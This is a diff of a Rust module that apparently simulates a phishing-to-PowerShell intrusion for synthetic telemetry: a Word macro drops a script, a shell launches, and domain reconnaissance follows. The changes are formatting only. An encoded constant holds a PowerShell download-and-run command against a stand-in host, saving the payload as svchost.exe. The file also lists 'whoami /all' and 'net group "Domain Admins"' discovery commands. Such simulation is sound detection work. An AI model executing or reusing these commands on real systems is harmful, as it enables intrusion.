@@ -21,12 +21,7 @@ pub(super) const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0
 const ENCODED: &str = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZgBpAGwAZQBzAC4AbABhAHIAawBzAHAAdQByAC4AZQB4AGEAbQBwAGwAZQAvAHQALwBuAG8AZABlAC4AYgBpAG4AIAAtAE8AdQB0AEYAaQBsAGUAIAAkAGUAbgB2ADoAVABFAE0AUABcAHMAdgBjAGgAbwBzAHQALgBlAHgAZQA7ACAAJgAgACQAZQBuAHYAOgBUAEUATQBQAFwAcwB2AGMAaABvAHMAdAAuAGUAeABlAA==";
 
 /// The whole attack on this host. Gives the shell, from which the next host is reached.
-pub(crate) fn run(
-    host: &mut Host,
-    desk: &Desktop,
-    office: &Desk,
-    facts: &mut Facts,
-) -> Rc<Process> {
+pub(crate) fn run(host: &mut Host, desk: &Desktop, office: &Desk, facts: &mut Facts) -> Rc<Process> {
     let script = letter(host, office, facts);
     let shell = shell(host, &script);
     discover(host, &shell);
@@ -42,27 +37,17 @@ fn letter(host: &mut Host, office: &Desk, facts: &mut Facts) -> Rc<Process> {
     host.create(at, &office.outlook, LETTER);
     let word = format!(r"{OFFICE}\WINWORD.EXE");
     let launch = Launch::new(word.as_str(), format!("\"{word}\" /n \"{LETTER}\" /o \"\""));
-    let word = host.start(
-        at.plus(5_230),
-        &office.outlook,
-        launch.label("attack winword"),
-    );
+    let word = host.start(at.plus(5_230), &office.outlook, launch.label("attack winword"));
     loaded(host, at.plus(5_230), &word);
     let macros = r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL";
     host.load(at.plus(17_810), &word, macros);
     host.create(at.plus(26_440), &word, SCRIPT);
-    let launch = Launch::system32(
-        "wscript.exe",
-        format!("\"C:\\Windows\\System32\\wscript.exe\" \"{SCRIPT}\" "),
-    );
-    let launch = launch
-        .inside(r"C:\Users\anna.voss\Documents\")
-        .recorded(Record::Both);
+    let launch =
+        Launch::system32("wscript.exe", format!("\"C:\\Windows\\System32\\wscript.exe\" \"{SCRIPT}\" "));
+    let launch = launch.inside(r"C:\Users\anna.voss\Documents\").recorded(Record::Both);
     let script = host.start(at.plus(27_105), &word, launch.label("attack wscript"));
     loaded(host, at.plus(27_105), &script);
-    facts
-        .drops
-        .push((Rc::clone(&word), SCRIPT, Rc::clone(&script)));
+    facts.drops.push((Rc::clone(&word), SCRIPT, Rc::clone(&script)));
     host.end(Time::at(9, 21, 16), &word);
     script
 }
@@ -79,10 +64,7 @@ fn shell(host: &mut Host, script: &Rc<Process>) -> Rc<Process> {
     host.end(at.plus(1_900), script);
     let engine = r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\3f8e0c1d5b7a92e4\System.Management.Automation.ni.dll";
     host.load(at.plus(610), &shell, engine);
-    let pipe = format!(
-        r"\PSHost.134339551530000000.{}.DefaultAppDomain.powershell",
-        shell.pid
-    );
+    let pipe = format!(r"\PSHost.134339551530000000.{}.DefaultAppDomain.powershell", shell.pid);
     host.pipe(at.plus(790), &shell, &pipe);
     host.visit(at.plus(2_480), &shell, FILES, 443);
     host.create(at.plus(6_020), &shell, implant::TOOL);
@@ -95,11 +77,7 @@ fn discover(host: &mut Host, shell: &Rc<Process>) {
     let at = Time::at(9, 12, 48);
     let whoami = r#""C:\Windows\system32\whoami.exe" /all"#;
     run_labelled(host, shell, at, ("whoami.exe", whoami), "attack whoami");
-    let queries = [
-        "user /domain",
-        "group \"Domain Admins\" /domain",
-        "view \\\\SRV-FILE",
-    ];
+    let queries = ["user /domain", "group \"Domain Admins\" /domain", "view \\\\SRV-FILE"];
     for (delay, query) in [4_000, 9_500, 15_200].into_iter().zip(queries) {
         let line = format!("\"C:\\Windows\\system32\\net.exe\" {query}");
         let launch = Launch::system32("net.exe", line).label("attack net");
